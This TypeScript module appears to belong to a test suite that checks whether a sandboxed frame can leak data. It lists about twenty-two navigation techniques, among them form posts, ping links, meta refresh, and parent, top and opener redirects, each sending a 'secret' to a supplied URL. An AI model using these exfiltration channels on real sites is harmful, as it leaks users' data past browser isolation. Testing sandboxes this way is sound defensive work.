import { call, get, inGroup } from './attack.ts';
import { createElement, put } from './put.ts';

function submit(attributes: Readonly<Record<string, string>>, secret: string): void {
	const form = createElement('form', attributes);
	const field = createElement('input', { name: 'secret', value: secret });
	put(form, field);
	if (form instanceof HTMLFormElement) form.submit();
}

/** Not put into the page first: its host's name would be looked up, which is an attack of its own. */
const follow = (attributes: Readonly<Record<string, string>>) =>
	createElement('a', attributes).click();

/** Ways that lead a frame, a page or another tab somewhere. */
export const navigationAttacks = inGroup('navigation', [
	{
		id: 'form-get',
		title: 'A form that is sent',
		ends: 'frame',
		run: ({ url, secret }) => submit({ action: url, method: 'get' }, secret),
	},
	{
		id: 'form-post',
		title: 'A form that is posted',
		ends: 'frame',
		run: ({ url, secret }) => submit({ action: url, method: 'post' }, secret),
	},
	{
		id: 'form-tab',
		title: 'A form that is sent to another tab',
		onClick: true,
		run: ({ url, secret }) => submit({ action: url, target: '_blank' }, secret),
	},
	{
		id: 'form-top',
		title: 'A form that replaces the whole page',
		ends: 'page',
		run: ({ url, secret }) => submit({ action: url, target: '_top' }, secret),
	},
	{ id: 'popup', title: 'Another window', onClick: true, run: ({ url }) => void open(url) },
	{
		id: 'popup-unrelated',
		title: 'Another window that knows nothing of this one',
		onClick: true,
		run: ({ url }) => void open(url, '_blank', 'noopener'),
	},
	{
		id: 'link-tab',
		title: 'A link to another tab',
		onClick: true,
		run: ({ url }) => follow({ href: url, target: '_blank' }),
	},
	{
		id: 'link-self',
		title: 'A link that replaces the box',
		ends: 'frame',
		run: ({ url }) => follow({ href: url }),
	},
	{
		id: 'link-top',
		title: 'A link that replaces the whole page',
		ends: 'page',
		run: ({ url }) => follow({ href: url, target: '_top' }),
	},
	{
		id: 'ping',
		title: 'A notice that a link was clicked (ping)',
		ends: 'frame',
		run: ({ url }) => follow({ href: '#here', ping: url }),
	},
	{
		id: 'download',
		title: 'A download',
		onClick: true,
		run: ({ url }) => follow({ href: url, download: 'leak' }),
	},
	{
		id: 'self',
		title: 'The box leads itself elsewhere',
		ends: 'frame',
		run: ({ url }) => void (location.href = url),
	},
	{
		id: 'self-own-site',
		title: 'The box leads itself to this site’s own host',
		ends: 'frame',
		run: ({ own }) => location.replace(own),
	},
	{
		id: 'self-navigation-api',
		title: 'The same by the newer command',
		ends: 'frame',
		run: ({ url }) => void call(get(globalThis, 'navigation'), 'navigate', url),
	},
	{
		id: 'self-data',
		title: 'The box becomes a page that is in its address',
		ends: 'frame',
		run: ({ url }) => void (location.href = `data:text/html,<img src="${url}">`),
	},
	{
		id: 'self-blob',
		title: 'The box becomes a page in memory',
		ends: 'frame',
		run: ({ url }) => {
			const page = new Blob([`<img src="${url}">`], { type: 'text/html' });
			location.href = URL.createObjectURL(page);
		},
	},
	{
		id: 'self-meta',
		title: 'A note in the box that leads it elsewhere (meta refresh)',
		ends: 'frame',
		run: ({ url }) =>
			void put(createElement('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` })),
	},
	{
		id: 'parent',
		title: 'The page around is led elsewhere',
		ends: 'page',
		run: ({ url }) => void (parent.location.href = url),
	},
	{
		id: 'top',
		title: 'The whole tab is led elsewhere',
		ends: 'page',
		run: ({ url }) => void (globalThis.top ?? parent).location.replace(url),
	},
	{
		id: 'top-by-name',
		title: 'The whole tab is led elsewhere, by its name',
		ends: 'page',
		run: ({ url }) => void open(url, '_top'),
	},
	{
		id: 'page-hash',
		title: 'The address of the page around gets an ending',
		ends: 'page',
		run: ({ secret }) => void (parent.location.hash = secret),
	},
	{
		id: 'opener',
		title: 'The window that opened this one is led elsewhere',
		run: ({ url }) => {
			const opener = get(globalThis.top ?? parent, 'opener');
			return call(get(opener, 'location'), 'replace', url);
		},
	},
]);
